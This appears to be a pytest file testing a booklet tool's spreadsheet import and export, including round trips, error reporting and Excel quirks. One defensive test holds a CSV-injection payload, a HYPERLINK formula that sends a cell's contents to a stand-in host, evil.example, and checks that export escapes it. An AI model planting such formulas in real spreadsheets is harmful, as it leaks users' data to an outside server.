"""Spreadsheets in and out (booklet/adapters/sheets/): the round trip, and a sheet full of mistakes."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import openpyxl
import pytest
import yaml
from typer.testing import CliRunner

from booklet.adapters.sheets import COLUMNS, export_sheets, import_sheets
from booklet.cli.app import app
from booklet.content.load import load_project_content
from booklet.errors import BookletError

ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()


def en(sheet: str, *values: object) -> list[object]:
    """A row typed in the sheet's English columns only, in their order, with its Welsh cells left empty."""
    english = [c for c in COLUMNS[sheet] if not c.endswith("_cy")]
    given = dict(zip(english, values, strict=False))
    return [given.get(c) for c in COLUMNS[sheet]]


def snapshot(content: Path) -> dict[str, bytes]:
    return {str(p.relative_to(content)): p.read_bytes() for p in sorted(content.rglob("*")) if p.is_file()}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    shutil.copytree(ROOT / "content", tmp_path / "content")
    return tmp_path


@pytest.fixture
def starter(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    result = runner.invoke(app, ["init", str(tmp_path / "starter")])
    assert result.exit_code == 0, result.output
    return tmp_path / "starter"


@pytest.mark.parametrize("kind", ["content.xlsx", "sheets-folder", "Organisations.csv"])
@pytest.mark.parametrize("which", ["default", "starter"])
def test_round_trip_changes_no_byte(which: str, kind: str, project: Path, starter: Path, tmp_path: Path) -> None:
    root = project if which == "default" else starter
    before = snapshot(root / "content")
    target = tmp_path / kind
    if kind.endswith(".csv"):
        export_sheets(root / "content", tmp_path / "csv")
        target = tmp_path / "csv" / "Organisations.csv"
    else:
        export_sheets(root / "content", target)
    result = import_sheets(target, root / "content")
    assert result.changes == []
    assert snapshot(root / "content") == before


def write_ods(xlsx: Path, target: Path) -> None:
    """The same workbook as OpenDocument (what LibreOffice saves), written with odfpy."""
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    document = OpenDocumentSpreadsheet()
    for sheet in openpyxl.load_workbook(xlsx).worksheets:
        table = Table(name=sheet.title)
        for row in sheet.iter_rows(values_only=True):
            table_row = TableRow()
            for value in row:
                if value is None:
                    cell = TableCell()
                elif isinstance(value, dt.datetime):
                    cell = TableCell(valuetype="date", datevalue=value.date().isoformat())
                    cell.addElement(P(text=value.date().isoformat()))
                elif isinstance(value, bool):
                    cell = TableCell(valuetype="boolean", booleanvalue=str(value).lower())
                    cell.addElement(P(text=str(value).upper()))
                elif isinstance(value, (int, float)):
                    cell = TableCell(valuetype="float", value=value)
                    cell.addElement(P(text=str(value)))
                else:
                    cell = TableCell(valuetype="string")
                    cell.addElement(P(text=str(value)))
                table_row.addElement(cell)
            table.addElement(table_row)
        document.spreadsheet.addElement(table)
    document.save(str(target))


@pytest.mark.parametrize("which", ["default", "starter"])
def test_round_trip_through_ods(which: str, project: Path, starter: Path, tmp_path: Path) -> None:
    root = project if which == "default" else starter
    export_sheets(root / "content", tmp_path / "content.xlsx")
    write_ods(tmp_path / "content.xlsx", tmp_path / "content.ods")
    before = snapshot(root / "content")
    assert import_sheets(tmp_path / "content.ods", root / "content").changes == []
    assert snapshot(root / "content") == before


def test_an_edited_ods_sheet_is_imported(project: Path, tmp_path: Path) -> None:
    export_sheets(project / "content", tmp_path / "content.xlsx")
    book = openpyxl.load_workbook(tmp_path / "content.xlsx")
    routes = book["Routes"]
    routes["B2"] = "Civil Service Jobs – Swyddi’r Gwasanaeth Sifil"
    book.save(tmp_path / "edited.xlsx")
    write_ods(tmp_path / "edited.xlsx", tmp_path / "edited.ods")
    old = (project / "content" / "routes.yaml").read_text().splitlines()
    result = import_sheets(tmp_path / "edited.ods", project / "content")
    assert [(c.name, c.action) for c in result.changes] == [("content/routes.yaml", "changed")]
    new = (project / "content" / "routes.yaml").read_text().splitlines()
    assert len(old) == len(new) and sum(a != b for a, b in zip(old, new, strict=True)) == 1  # comments, quotes kept
    routes_data = yaml.safe_load((project / "content" / "routes.yaml").read_text())["routes"]
    assert routes_data[0]["title"] == "Civil Service Jobs – Swyddi’r Gwasanaeth Sifil"


def test_xlsx_has_one_row_per_item_and_drop_downs(project: Path, tmp_path: Path) -> None:
    export_sheets(project / "content", tmp_path / "content.xlsx")
    book = openpyxl.load_workbook(tmp_path / "content.xlsx")
    assert book.sheetnames[:3] == ["Organisations", "Routes", "Points"]
    orgs = book["Organisations"]
    header = [c.value for c in orgs[1]]
    assert header == [
        "id",
        "name",
        "name_cy",
        "summary",
        "summary_cy",
        "roles",
        "roles_cy",
        "website",
        "order",
        "tags",
        "source",
        "reviewed",
        "logo",
        "logo_alt",
        "logo_alt_cy",
    ]
    ids = [r[0].value for r in orgs.iter_rows(min_row=2) if r[0].value]
    assert len(ids) == len(list((project / "content" / "organisations").glob("*.yaml")))
    gds = next(r for r in orgs.iter_rows(min_row=2) if r[0].value == "gds")
    source = yaml.safe_load((project / "content" / "organisations" / "gds.yaml").read_text())
    assert gds[5].value == "; ".join(source["roles"]) and gds[6].value == "; ".join(source["roles_cy"])
    assert gds[2].value == source["name_cy"]
    assert gds[11].value.date() == source["reviewed"] and gds[11].number_format == "yyyy-mm-dd"
    rules = {str(dv.sqref).split(":")[0]: dv for dv in orgs.data_validations.dataValidation}
    assert rules["J2"].type == "list" and rules["J2"].formula1.startswith("=Lists!$A$2:$A$")  # tags
    assert rules["A2"].type == "list" and rules["A2"].formula1.startswith("=Lists!$B$2:$B$")  # ids
    points = book["Points"]
    section_rule = next(dv for dv in points.data_validations.dataValidation if str(dv.sqref).startswith("A2:"))
    assert section_rule.errorStyle == "stop"
    lists = book["Lists"]
    assert lists.sheet_state == "hidden"
    assert [lists.cell(r, 5).value for r in range(2, 5)] == ["why", "challenges", "skills"]
    assert "technical" in [lists.cell(r, 1).value for r in range(2, 40)]


def test_an_edited_sheet_changes_only_what_was_edited(project: Path, tmp_path: Path) -> None:
    export_sheets(project / "content", tmp_path / "content.xlsx")
    book = openpyxl.load_workbook(tmp_path / "content.xlsx")
    orgs = book["Organisations"]
    row = next(r for r in orgs.iter_rows(min_row=2) if r[0].value == "gds")
    row[1].value = "Government Digital Service – Gwasanaeth Digidol & Data"
    orgs.append(
        en(
            "Organisations",
            "new-employer",
            "Café Société & Partners",
            "Makes things. Sells them.",
            "Analysts; Engineers",
            "https://www.example.org",
            70,
            "technical",
            "https://www.example.org",
            "2026-11-01",
        )
    )
    book.save(tmp_path / "edited.xlsx")
    before = snapshot(project / "content")

    dry = runner.invoke(
        app, ["import", str(tmp_path / "edited.xlsx"), "--content", str(project / "content"), "--dry-run"]
    )
    assert dry.exit_code == 0, dry.output
    assert "+name: Government Digital Service – Gwasanaeth Digidol & Data" in dry.output
    assert "would be created: content/organisations/new-employer.yaml" in dry.output
    assert snapshot(project / "content") == before

    done = runner.invoke(app, ["import", str(tmp_path / "edited.xlsx"), "--content", str(project / "content")])
    assert done.exit_code == 0, done.output
    after = snapshot(project / "content")
    changed = {name for name in after if after[name] != before.get(name)}
    assert changed == {"organisations/gds.yaml", "organisations/new-employer.yaml"}
    text = after["organisations/gds.yaml"].decode()
    assert text.startswith("# yaml-language-server: $schema=../schemas/organisation.schema.json\n")
    assert yaml.safe_load(text)["name"] == "Government Digital Service – Gwasanaeth Digidol & Data"
    new = yaml.safe_load(after["organisations/new-employer.yaml"])
    assert new["name"] == "Café Société & Partners" and new["roles"] == ["Analysts", "Engineers"]
    assert new["reviewed"] == dt.date(2026, 11, 1)
    content = load_project_content(project / "content")
    assert content.errors == []
    assert "Café Société & Partners" in [o.name for o in content.booklet.organisations]


def mistakes_sheet(path: Path, content: Path) -> None:
    """Ten kinds of mistakes people make in spreadsheets, each in its own place."""
    export_sheets(content, path)
    book = openpyxl.load_workbook(path)
    orgs = book["Organisations"]
    orgs.delete_rows(2, orgs.max_row)
    good = ["https://www.example.org", 10, "technical", "https://www.example.org", dt.date(2026, 11, 1)]
    rows = [
        # 2: accents and an ampersand: fine
        ["cafe-societe", "Café Société & Gŵr", "Makes things.", "Analysts; Engineers", *good],
        # 3, 4: blank rows: fine
        [None] * 9,
        [None] * 9,
        # 5, 6: a merged summary cell (C5:C6)
        ["merged-one", "Merged One", "Shared summary", "Analysts", *good],
        ["merged-two", "Merged Two", None, "Analysts", *good],
        # 7: a date typed month first (read the UK way, day first, it is impossible)
        ["date-text", "Date Text", "Makes things.", "Analysts", *good[:4], "11/28/2026"],
        # 8: a bad web address
        ["bad-url", "Bad Url", "Makes things.", "Analysts", "www.example.org", *good[1:]],
        # 9: a required field left empty
        ["no-name", None, "Makes things.", "Analysts", *good],
        # 10: the same id twice
        ["cafe-societe", "Again", "Makes things.", "Analysts", *good],
        # 11: commas instead of semicolons
        ["commas", "Commas", "Makes things.", "Analysts", good[0], 10, "technical, policy", *good[3:]],
        # 12: an id that is not an id
        ["Bad Id", "Bad Id", "Makes things.", "Analysts", *good],
    ]
    for row in rows:
        orgs.append(en("Organisations", *row))
    orgs.merge_cells("D5:D6")
    points = book["Points"]
    points["A3"] = "reasons"  # 11th: a section the booklet does not have
    book.save(path)


EXPECTED = [
    "mistakes.xlsx › Organisations!D5  summary  merged cells D5:D6 (unmerge them and type the value in every row that needs it)",  # noqa: E501
    "mistakes.xlsx › Organisations!L7  reviewed  '11/28/2026': not a real date read day first (DD/MM/YYYY); is it written month first? (dates are YYYY-MM-DD (2026-11-28) or DD/MM/YYYY (28/11/2026))",  # noqa: E501
    "mistakes.xlsx › Organisations!A10  id  duplicate id 'cafe-societe' (first in row 2) (ids must be unique; rename or delete one of the rows)",  # noqa: E501
    "mistakes.xlsx › Organisations!J11  tags  tags are separated with ',' (separate list items with ; (semicolon), e.g. a; b; c)",  # noqa: E501
    "mistakes.xlsx › Organisations!A12  id  id 'Bad Id' is not lower case with hyphens (it becomes the file name: bad-id)",  # noqa: E501
    "mistakes.xlsx › Points!A3  section  unknown section 'reasons' (use why, challenges or skills)",
]


def test_ten_kinds_of_mistakes_are_all_reported_and_nothing_is_written(project: Path, tmp_path: Path) -> None:
    mistakes_sheet(tmp_path / "mistakes.xlsx", project / "content")
    before = snapshot(project / "content")
    with pytest.raises(BookletError) as caught:
        import_sheets(tmp_path / "mistakes.xlsx", project / "content", label="mistakes.xlsx")
    lines = [p.line() for p in caught.value.problems]
    print("\n".join(lines))
    for line in EXPECTED:
        assert line in lines
    assert any(line.startswith("mistakes.xlsx › Organisations!H8  website  ") and "https://" in line for line in lines)
    assert any(line.startswith("mistakes.xlsx › Organisations!B9  name  missing required") for line in lines)
    assert not [line for line in lines if "Organisations!D6" in line]  # the merge is reported once, at D5
    # Accents, ampersands and blank rows are not mistakes.
    assert not [
        line for line in lines if "!A2 " in line or "Organisations!B2" in line or "!3 " in line or "!4 " in line
    ]
    assert snapshot(project / "content") == before

    result = runner.invoke(app, ["import", str(tmp_path / "mistakes.xlsx"), "--content", str(project / "content")])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert snapshot(project / "content") == before


def test_an_import_that_breaks_another_file_is_refused(project: Path, tmp_path: Path) -> None:
    """Deleting an organisation an audience features is caught by the whole-project check."""
    export_sheets(project / "content", tmp_path / "content.xlsx")
    book = openpyxl.load_workbook(tmp_path / "content.xlsx")
    orgs = book["Organisations"]
    featured = {a["id"]: a for a in yaml.safe_load((project / "content" / "audiences.yaml").read_text())["audiences"]}
    name = next(f for a in featured.values() for f in a.get("featured", []))
    row = next(r for r in orgs.iter_rows(min_row=2) if r[0].value == name)
    orgs.delete_rows(row[0].row)
    book.save(tmp_path / "fewer.xlsx")
    before = snapshot(project / "content")
    with pytest.raises(BookletError) as caught:
        import_sheets(tmp_path / "fewer.xlsx", project / "content", prune=True)
    audience = next(a for a in featured.values() if name in a.get("featured", []))["id"]
    assert (
        f"audience {audience} features {name}, which --prune deletes (add --drop-references to take it out of the "
        "audience too, or keep its row in the sheet)" in [p.what + f" ({p.hint})" for p in caught.value.problems]
    )
    assert snapshot(project / "content") == before
    result = import_sheets(tmp_path / "fewer.xlsx", project / "content", prune=True, drop_references=True)
    assert sorted(c.action for c in result.changes) == ["changed", "deleted"]
    assert f"audience {audience}: {name} taken out of featured" in result.notes
    after = yaml.safe_load((project / "content" / "audiences.yaml").read_text())["audiences"]
    assert all(name not in a.get("featured", []) for a in after)
    assert load_project_content(project / "content").errors == []


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "summary": "+44 20 7946 0000 is the number to call.",
    "roles": ["@mention", "-minus", "'=quoted already", "Analysts"],
    "roles_cy": ["@sôn", "-minws", "'=wedi'i ddyfynnu", "Dadansoddwyr"],
}


def test_text_that_looks_like_a_formula_stays_text_both_ways(project: Path, tmp_path: Path) -> None:
    """OWASP's CSV-injection advice on export (a `'` before = + - @ tab CR), undone exactly on import."""
    path = project / "content" / "organisations" / "gds.yaml"
    data = yaml.safe_load(path.read_text())
    data.update(FORMULAS)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    before = snapshot(project / "content")
    export_sheets(project / "content", tmp_path / "content.xlsx")
    export_sheets(project / "content", tmp_path / "csv")
    gds = next(
        r
        for r in openpyxl.load_workbook(tmp_path / "content.xlsx")["Organisations"].iter_rows(min_row=2)
        if r[0].value == "gds"
    )
    assert (gds[1].data_type, gds[1].value) == ("s", FORMULAS["name"])  # text, not a live formula
    text = (tmp_path / "csv" / "Organisations.csv").read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text
    assert ",'+44 20 7946 0000 is the number to call.," in text
    assert "'@mention; -minus; '=quoted already; Analysts" in text  # the list starts with @: one quote
    assert "'@sôn; -minws; '=wedi'i ddyfynnu; Dadansoddwyr" in text  # Welsh columns are guarded the same way
    for source in (tmp_path / "content.xlsx", tmp_path / "csv"):
        assert import_sheets(source, project / "content").changes == []
        assert snapshot(project / "content") == before
    write_ods(tmp_path / "content.xlsx", tmp_path / "content.ods")
    assert import_sheets(tmp_path / "content.ods", project / "content").changes == []


def edited(project: Path, tmp_path: Path, name: str, edit) -> Path:
    export_sheets(project / "content", tmp_path / "content.xlsx")
    book = openpyxl.load_workbook(tmp_path / "content.xlsx")
    edit(book)
    book.save(tmp_path / name)
    return tmp_path / name


def import_lines(source: Path, project: Path) -> tuple[int, list[str]]:
    """Run `booklet import` from the sheet's folder, as people do, so messages name it as typed."""
    import os

    here = os.getcwd()
    os.chdir(source.parent)
    try:
        result = runner.invoke(app, ["import", source.name, "--content", str(project / "content")])
    finally:
        os.chdir(here)
    assert "Traceback" not in result.output
    return result.exit_code, [line for line in (result.stdout + result.stderr).splitlines() if line]


def test_import_writes_every_file_or_none(project: Path, tmp_path: Path, monkeypatch) -> None:
    import os

    def edit(book):
        book["Organisations"]["B2"] = "Renamed One"
        book["Routes"]["B2"] = "Renamed Route"

    source = edited(project, tmp_path, "two.xlsx", edit)
    before = snapshot(project / "content")
    real = os.fdopen
    opened = []

    def second_write_fails(fd, mode="r", *args, **kwargs):  # the disk fills up while the second file is written
        opened.append(mode)
        if opened.count("wb") == 2 and mode == "wb":
            os.close(fd)
            raise OSError(28, "No space left on device")
        return real(fd, mode, *args, **kwargs)

    monkeypatch.setattr(os, "fdopen", second_write_fails)
    code, lines = import_lines(source, project)
    monkeypatch.setattr(os, "fdopen", real)
    assert code == 4, lines
    assert lines[-1].startswith("error: content/") and lines[-1].endswith(
        "cannot be written (No space left on device); no file was changed "
        "(check the folder's permissions and free space, then import again)"
    )
    assert snapshot(project / "content") == before
    assert not [p for p in (project / "content").rglob("*.tmp")]
    code, lines = import_lines(source, project)
    assert code == 0 and len([line for line in lines if line.startswith("changed: ")]) == 2


def test_a_sheet_without_ids_or_renamed_is_refused_not_skipped(project: Path, tmp_path: Path) -> None:
    def rename_column(book):
        book["Routes"]["A1"] = "route id"

    code, lines = import_lines(edited(project, tmp_path, "noid.xlsx", rename_column), project)
    assert code == 1
    assert lines == [
        "error: noid.xlsx › Routes!A1  -  unknown column 'route_id' (the Routes sheet has columns: id, title, title_cy,"
        " summary, summary_cy, url, steps, steps_cy, tags, source, reviewed, and route facts: who, entry,"
        " pay_from, pay_to, pay_per, where_places, clearance, length, apply_opens, apply_closes…)",
        "error: noid.xlsx › Routes!1  id  has no 'id' column (add it to the first row)",
    ]

    def rename_sheet(book):
        book["Organisations"].title = "Organisations (edited)"

    code, lines = import_lines(edited(project, tmp_path, "renamed.xlsx", rename_sheet), project)
    assert code == 1
    assert lines == [
        "error: renamed.xlsx › Organisations (edited)  -  this sheet is not read: sheets are named Organisations, "
        "Routes, Points, Glossary and Stories (rename it to Organisations?)"
    ]


def test_a_semicolon_csv_from_excel_imports(project: Path, tmp_path: Path) -> None:
    export_sheets(project / "content", tmp_path / "csv")
    path = tmp_path / "csv" / "Routes.csv"
    import csv as csvlib
    import io

    rows = list(csvlib.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    rows[1][1] = 'The "Fast Stream", renamed'
    out = io.StringIO()
    csvlib.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8-sig")
    result = import_sheets(path, project / "content")
    assert [c.action for c in result.changes] == ["changed"]
    routes = yaml.safe_load((project / "content" / "routes.yaml").read_text())["routes"]
    assert routes[0]["title"] == 'The "Fast Stream", renamed'


def test_excel_habits_are_read_as_meant_and_every_problem_comes_at_once(project: Path, tmp_path: Path) -> None:
    """A blank id beside another mistake, a name as id, Alt+Enter lists with pasted bullets, UK dates,
    a formula with no saved value, and a website without https:// — all in one pass, none a crash."""
    good = ["https://www.example.net", 10, "technical", "https://www.example.net", "15/11/2026"]

    def edit(book):
        orgs = book["Organisations"]
        orgs.append(
            en("Organisations", None, "Gwynedd Council", "Runs services.", "• Planners\n• Data analysts", *good)
        )
        orgs.append(
            en("Organisations", None, None, "No name, no id.", "Analysts", good[0], 10, "technical", good[0], "soon")
        )
        orgs.append(en("Organisations", "Powys Council", "Powys", "Runs services.", "Analysts", *good))
        orgs.append(
            en(
                "Organisations",
                "no-https",
                "No Https",
                "Runs services.",
                "Analysts",
                "www.example.org",
                *good[1:4],
                "soon",
            )
        )
        orgs.append(en("Organisations", "formula", '=UPPER("x")', "Runs services.", "Analysts", *good))

    source = edited(project, tmp_path, "habits.xlsx", edit)
    last = openpyxl.load_workbook(source)["Organisations"].max_row
    code, lines = import_lines(source, project)
    assert code == 1
    hint = "(type the date as YYYY-MM-DD (e.g. 2026-11-28))"
    assert lines == [
        f"error: habits.xlsx › Organisations!L{last - 3}  reviewed  'soon' is text, not a date {hint}",
        f"error: habits.xlsx › Organisations!A{last - 3}  id  has no id (give each row an id, or a name to make it "
        "from)",
        f"error: habits.xlsx › Organisations!A{last - 2}  id  id 'Powys Council' is not lower case with hyphens (it "
        "becomes the file name: powys-council)",
        f"error: habits.xlsx › Organisations!L{last - 1}  reviewed  'soon' is text, not a date {hint}",
        f"error: habits.xlsx › Organisations!B{last}  name  a formula with no saved value (open the file in Excel or "
        "LibreOffice and save it, or type the value instead)",
        f"error: habits.xlsx › Organisations!H{last - 1}  website  'www.example.org' must be an https:// address "
        "(write it as https://www.example.org)",
        f"error: habits.xlsx › Organisations!B{last - 3}  name  missing required key 'name' (Full name as printed, "
        'e.g. "Government Digital Service (GDS)".)',
    ]

    def fixed(book):
        edit(book)
        orgs = book["Organisations"]
        orgs.delete_rows(orgs.max_row - 3, 4)  # the four rows with mistakes

    code, lines = import_lines(edited(project, tmp_path, "fixed.xlsx", fixed), project)
    assert code == 0, lines
    assert (
        "note: fixed.xlsx › Organisations!A" + str(last - 4) + ": no id; gwynedd-council was made from the name"
        in lines
    )
    assert (
        "note: fixed.xlsx › Organisations, column reviewed: dates written DD/MM/YYYY are read the UK way, day first "
        "(e.g. 03/04/2026 is 3 April 2026)" in lines
    )
    assert (
        "note: fixed.xlsx › Organisations, column roles: items on separate lines (Alt+Enter) or after pasted bullets "
        "became list items" in lines
    )
    made = yaml.safe_load((project / "content" / "organisations" / "gwynedd-council.yaml").read_text())
    assert made["roles"] == ["Planners", "Data analysts"] and made["reviewed"] == dt.date(2026, 11, 15)


@pytest.mark.parametrize("kind", ["csv", "ods"])
def test_excel_habits_read_the_same_from_csv_and_ods(kind: str, project: Path, tmp_path: Path) -> None:
    row = en(
        "Organisations",
        None,
        "Gwynedd Council",
        "Runs services.",
        "• Planners\n• Data analysts",
        "https://www.example.org",
        10,
        "technical",
        "https://www.example.org",
        "15/11/2026",
    )
    if kind == "csv":
        export_sheets(project / "content", tmp_path / "csv")
        with (tmp_path / "csv" / "Organisations.csv").open("a", encoding="utf-8", newline="") as handle:
            import csv as csvlib

            csvlib.writer(handle, lineterminator="\r\n").writerow(["" if v is None else v for v in row])
        source = tmp_path / "csv" / "Organisations.csv"
    else:
        xlsx = edited(project, tmp_path, "habits.xlsx", lambda book: book["Organisations"].append(row))
        source = tmp_path / "habits.ods"
        write_ods(xlsx, source)
    result = import_sheets(source, project / "content")
    assert [(c.name, c.action) for c in result.changes] == [("content/organisations/gwynedd-council.yaml", "created")]
    made = yaml.safe_load((project / "content" / "organisations" / "gwynedd-council.yaml").read_text())
    assert made["roles"] == ["Planners", "Data analysts"] and made["reviewed"] == dt.date(2026, 11, 15)


def test_import_shows_the_warnings_the_change_brings(project: Path, tmp_path: Path) -> None:
    row = ["old-one", "Old One", "Makes things.", "Analysts", "https://www.example.net", 10, "technical"]
    source = edited(
        project,
        tmp_path,
        "old.xlsx",
        lambda book: book["Organisations"].append(
            en("Organisations", *row, "https://www.example.net", dt.date(2020, 1, 1))
        ),
    )
    code, lines = import_lines(source, project)
    assert code == 0
    warned = [line for line in lines if "warning:" in line]
    assert len(warned) == 1
    assert warned[0].startswith(
        f"old.xlsx › Organisations!L{openpyxl.load_workbook(source)['Organisations'].max_row}  reviewed  "
        "warning: organisation 'old-one' was last reviewed on 2020-01-01"
    )


def test_list_cells_typed_the_excel_way_become_items() -> None:
    from booklet.adapters.sheets.workbook import list_items

    assert list_items("Analysts; Engineers") == ["Analysts", "Engineers"]
    assert list_items("• Planners\n• Data analysts\r\n") == ["Planners", "Data analysts"]
    assert list_items("Analysts • Engineers · Planners") == ["Analysts", "Engineers", "Planners"]
    assert list_items("- Apply online\n- Sit the tests") == ["Apply online", "Sit the tests"]
    assert list_items("Data-led roles; -minus") == ["Data-led roles", "-minus"]  # a hyphen is not a bullet


def test_import_prints_at_most_forty_problem_lines(project: Path, tmp_path: Path) -> None:
    def many(book):
        for n in range(100):
            book["Organisations"].append(en("Organisations", f"Bad Id {n}", "Name", "Does things.", "Analysts"))

    code, lines = import_lines(edited(project, tmp_path, "many.xlsx", many), project)
    assert code == 1 and len(lines) == 40
    assert lines[-1] == "error: many.xlsx  -  … and 361 more problems (fix these first and run again)"
